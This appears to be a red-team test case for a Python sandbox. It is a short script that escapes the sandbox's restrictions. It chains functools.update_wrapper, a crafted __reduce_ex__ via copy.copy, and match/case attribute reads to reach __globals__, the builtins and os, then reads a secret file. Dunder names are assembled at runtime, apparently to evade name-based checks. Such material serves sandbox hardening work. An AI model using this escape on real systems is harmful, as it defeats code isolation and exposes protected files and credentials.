# family: red team, round 10 (update_wrapper_default_dict_copies_method)
# functools.update_wrapper(w, Base) with the default `updated` copies Base.__dict__ into w.__dict__: the plain
# function kind lands on w without a read of `kind` on the class being recorded, so type(self) in kind is still
# trusted; w.kind(Base) returns the metaclass.
import abc
import copy
import functools
from types import SimpleNamespace


class Base(abc.ABC):
    def kind(self):
        return type(self)


def metaclass():
    holder = SimpleNamespace()
    functools.update_wrapper(holder, Base, assigned=())
    return holder.kind(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
